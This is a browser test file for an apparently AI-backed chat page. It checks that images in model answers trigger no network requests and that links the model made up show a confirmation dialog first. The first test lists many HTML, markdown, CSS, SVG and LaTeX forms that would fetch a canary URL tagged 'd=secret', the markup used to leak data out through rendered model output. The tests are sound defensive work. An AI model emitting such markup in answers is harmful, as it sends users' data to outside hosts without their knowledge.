import { askAnything } from "./ask-anything";
import { startCanary } from "./canary";
import { ChatPage, settled } from "./chat-page";
import { expect } from "./fixtures";
import { test } from "./scripted-fixture";
import { citedText } from "./scripted-google";

test("RN-02 an image in an answer asks nobody for anything, at any moment, and is a chip with its host", async ({
  page,
  context,
  google,
}) => {
  const canary = await startCanary();
  const evil = `${canary.url}?d=secret`;
  const forms = [
    `![inline](${evil})`,
    `[![inner](${evil})](${evil})`,
    `![by reference][pic]`,
    `<img src="${evil}" srcset="${evil} 2x">`,
    `<picture><source srcset="${evil}"><img src="${evil}"></picture>`,
    `<video poster="${evil}"></video><link rel="stylesheet" href="${evil}"><link rel="prefetch" href="${evil}">`,
    `<base href="${canary.url}"><style>body{background:url(${evil})}</style><div style="background:url(${evil})">x</div>`,
    `<svg><image href="${evil}"/></svg><object data="${evil}"></object><iframe src="${evil}"></iframe>`,
    `$\\includegraphics{${evil}}$`,
    `[pic]: ${evil}`,
  ];
  google.answerWith(citedText(forms.join("\n\n"), [], 3));
  const reply = await askAnything(page);
  await settled(reply);
  await expect(reply.getByRole("link", { name: `inline ${new URL(canary.url).host}` })).toBeVisible();
  await page.reload();
  await expect(reply.getByText("inline").first()).toBeVisible();
  expect(canary.hits()).toBe(0);
  expect(await reply.locator("img, picture, video, iframe, object, link, style").count()).toBe(0);
  const blank = await context.newPage();
  await blank.evaluate((url) => fetch(url, { mode: "no-cors" }), canary.url);
  expect(canary.hits(), "the canary hears what does ask").toBe(1);
  canary.close();
});

test("RN-04 a link that only the model knows shows where it leads before it is followed", async ({
  page,
  context,
  google,
}) => {
  await context.route(/^https:\/\/(made-up|cited|named)\.example\//, (route) =>
    route.fulfill({ body: "there" }),
  );
  const long = "x".repeat(70);
  google.answerWith(
    citedText(
      `See [this page](https://made-up.example/a), [that one](https://cited.example/b), [mine](https://named.example/c) or [long](https://cited.example/?q=${long}).`,
      [{ words: "See", url: "https://cited.example/b", title: "Cited" }],
    ),
  );
  google.holdAnnotations()();
  const chat = new ChatPage(page);
  await page.goto("/");
  const reply = await chat.ask("What is at https://named.example/c?");
  const dialog = page.getByRole("dialog", { name: "Open this link?" });
  for (const name of ["that one", "mine"]) {
    const opened = context.waitForEvent("page");
    await reply.getByRole("link", { name, exact: true }).click();
    await (await opened).close();
    await expect(dialog).toBeHidden();
  }
  await reply.getByRole("link", { name: "long", exact: true }).click();
  await expect(dialog).toContainText(long);
  await page.keyboard.press("Escape");
  await expect(dialog).toBeHidden();
  await expect(reply.getByRole("link", { name: "long", exact: true })).toBeFocused();
  await reply.getByRole("link", { name: "this page" }).press("Enter");
  await expect(dialog).toContainText("made-up.example");
  await expect(dialog).toContainText("https://made-up.example/a");
  const opened = context.waitForEvent("page");
  await dialog.getByRole("link", { name: "Open link" }).press("Enter");
  const tab = await opened;
  await expect(tab).toHaveURL("https://made-up.example/a");
  expect(await tab.evaluate(() => window.opener)).toBeNull();
  await expect(dialog).toBeHidden();
});
